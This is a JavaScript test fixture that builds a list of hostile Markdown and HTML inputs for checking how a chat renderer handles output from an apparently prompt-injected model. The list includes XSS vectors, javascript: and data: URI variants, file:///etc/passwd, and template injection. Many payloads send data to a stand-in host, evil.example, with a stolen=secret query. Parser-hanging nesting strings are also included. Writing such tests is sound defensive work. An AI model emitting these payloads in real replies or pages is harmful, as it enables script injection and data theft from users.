// Answers of a model that somebody else has told what to say.
const EVIL = "https://evil.example/x?stolen=secret";

const ADDRESSES = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "%6Aavascript:alert(1)",
  "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>", "blob:null/1", "file:///etc/passwd", "//evil.example/x", "/api/chats", "#/c/other",
  "view-source:https://evil.example", "intent://evil#Intent;end", EVIL,
];

const HTML = [
  "<script>alert(1)</script>", `<script src="${EVIL}"></script>`, `<img src="${EVIL}">`, "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>", `<svg><image href="${EVIL}"/></svg>`, `<iframe src="${EVIL}"></iframe>`,
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>", `<object data="${EVIL}"></object>`, `<embed src="${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}">`, `<style>@import "${EVIL}";</style>`, `<style>*{background:url(${EVIL})}</style>`,
  `<body background="${EVIL}">`, `<div style="background:url(${EVIL})">x</div>`, `<video src="${EVIL}" autoplay></video>`,
  `<audio src="${EVIL}" autoplay></audio>`, `<meta http-equiv="refresh" content="0;url=${EVIL}">`, `<base href="${EVIL}">`,
  `<form action="${EVIL}"><input name=a><button>Send</button></form>`, "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "</textarea><img src=x onerror=alert(1)>",
  "</div></article></main><script>alert(1)</script>", "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
];

const NEST = 3000;

const SHAPES = [
  "[".repeat(NEST), "![".repeat(NEST), "> ".repeat(NEST) + "deep", "*".repeat(NEST), "_a".repeat(NEST), "`".repeat(NEST), "<".repeat(NEST),
  Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- deep`).join("\n"), `|${"a|".repeat(NEST)}\n|${"-|".repeat(NEST)}`,
  "```" + "a".repeat(NEST) + "\nunclosed", "```<img src=x onerror=alert(1)>\ncode\n```", "```__proto__\ncode\n```", "```constructor\ncode\n```",
  "\u202Egnp.exe\u202C \u0000\uFFFD\uD800", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&NotAnEntity; &#xFFFFFFF; &#0;",
  "[x]: javascript:alert(1)\n\n[x]", `[x]: ${EVIL}\n\n![x]`, `[![picture](${EVIL})](javascript:alert(1))`, `[text](<${EVIL}> "\\"onclick=alert(1)")`,
  `![\\"onerror=alert(1)](${EVIL} "t")`, "[a](javascript:alert(1) 'x')", "<javascript:alert(1)>", `<${EVIL}>`, "www.evil.example/<script>alert(1)</script>",
  "a@b.example\" onmouseover=alert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "$$\\href{javascript:alert(1)}{x}$$",
];

/** Return more than a hundred texts that try to run something, to load something, or to stop the page. */
export function hostileMarkdown() {
  const links = ADDRESSES.flatMap((address) => [`[click me](${address})`, `![picture](${address})`]);
  return [...links, ...HTML, ...HTML.map((html) => `Some text ${html} and **more** of it.`), ...SHAPES];
}
